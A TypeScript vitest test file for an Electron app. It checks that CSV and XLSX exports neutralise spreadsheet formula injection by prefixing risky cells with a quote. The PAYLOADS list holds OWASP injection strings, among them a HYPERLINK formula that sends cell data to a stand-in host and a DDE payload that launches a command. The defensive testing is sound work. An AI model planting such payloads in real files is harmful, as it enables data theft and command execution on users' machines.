import { strFromU8, unzipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../electron/features/data/sheets/csv';
import { readXlsx } from '../../electron/features/data/sheets/xlsx';
import { entriesToCsv } from '../../shared/features/time/csv';
import { csvField, neutraliseFormula, writeCsv } from '../../shared/format/csv';
import { openTestApp, type TestApp } from '../helpers/store';

/** The payloads of OWASP's CSV injection page, and the two whitespace starts it lists. */
const PAYLOADS = ['=HYPERLINK("http://x/?d="&A3;"Cliquez")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

let apps: TestApp[] = [];
afterEach(async () => {
  for (const a of apps) await a.close();
  apps = [];
});

const decode = (base64: string) => new TextDecoder().decode(Buffer.from(base64, 'base64')).replace(/^\uFEFF/, '');

describe('CSV formula injection', () => {
  it('prefixes every text cell that starts a formula with a quote, and nothing else', () => {
    for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
    for (const ok of ['Ressourcerie', 'a=b', ' =1', "l'Atelier", '']) expect(neutraliseFormula(ok)).toBe(ok);
  });

  it('keeps numbers as numbers: -1,5 stays a negative number, the text "-1,5" is neutralised', () => {
    expect(csvField({ number: -1.5 })).toBe('-1,5');
    expect(csvField({ number: -12, digits: 2 })).toBe('-12,00');
    expect(csvField('-1,5')).toBe("'-1,5");
    expect(writeCsv([[{ number: -1.5 }, '-1,5', null]])).toBe("-1,5;'-1,5;\r\n");
  });

  it('neutralises the list export (organisations, people) and the spreadsheet reads the payload back as text', async () => {
    const a = await openTestApp();
    apps.push(a);
    for (const [i, name] of PAYLOADS.slice(0, 4).entries()) {
      await a.call('organisations.create', { name, kind: 'member', city: i === 0 ? '=1+1' : null });
      await a.call('people.create', { firstName: '@Marie', lastName: name });
    }
    const orgs = await a.call('data.export', { list: 'organisations', columns: ['name', 'city'], format: 'csv' });
    const rows = parseCsv(decode(orgs.base64), ';').slice(1);
    expect(rows.map((r) => r[0]).sort()).toEqual(PAYLOADS.slice(0, 4).map((p) => `'${p}`).sort());
    expect(rows.flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(rows.map((r) => r[1])).toContain("'=1+1");

    const people = await a.call('data.export', { list: 'people', columns: ['lastName', 'firstName'], format: 'csv' });
    const peopleRows = parseCsv(decode(people.base64), ';').slice(1);
    expect(peopleRows.flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(peopleRows.map((r) => r[1])).toEqual(PAYLOADS.slice(0, 4).map(() => "'@Marie"));
  });

  it('neutralises the time entries CSV (list export and the entries screen) but keeps its numbers', async () => {
    const a = await openTestApp();
    apps.push(a);
    const org = await a.call('organisations.create', { name: '-1+1', kind: 'member' });
    const person = await a.call('people.create', { firstName: 'Marie', lastName: '+cmd' });
    const categories = await a.call('time.categories.list', {});
    await a.call('time.entries.create', {
      organisationId: org.id,
      personId: person.id,
      date: '2026-02-03',
      minutes: '1h30',
      categoryId: categories.items[0]!.id,
      nature: 'volunteering',
      meetingId: null,
      activityId: null,
      note: '=HYPERLINK("http://x/?d="&A3;"Cliquez")',
    });
    const exported = await a.call('data.export', { list: 'time', columns: ['organisation', 'person', 'hours', 'note'], format: 'csv', filter: { year: 2026 } });
    expect(parseCsv(decode(exported.base64), ';')[1]).toEqual(["'-1+1", 'Marie +cmd', '1,50', '\'=HYPERLINK("http://x/?d="&A3;"Cliquez")']);

    const list = await a.call('time.entries.list', { from: '2026-01-01', to: '2026-12-31' });
    const line = parseCsv(entriesToCsv(list.items).replace(/^\uFEFF/, ''), ';')[1]!;
    expect(line[1]).toBe("'-1+1");
    expect(line[5]).toBe('1,5');
    expect(line[6]).toBe('90');
    expect(line[10]).toBe('\'=HYPERLINK("http://x/?d="&A3;"Cliquez")');
  });

  it('writes XLSX text as shared strings, never as formulas, and keeps the text as typed', async () => {
    const a = await openTestApp();
    apps.push(a);
    await a.call('organisations.create', { name: PAYLOADS[0]!, kind: 'member' });
    const exported = await a.call('data.export', { list: 'organisations', columns: ['name'], format: 'xlsx' });
    const bytes = Buffer.from(exported.base64, 'base64');
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(sheet).toMatch(/<c r="A2" t="s">/);
    expect(readXlsx(bytes).rows[1]).toEqual([PAYLOADS[0]]);
  });
});
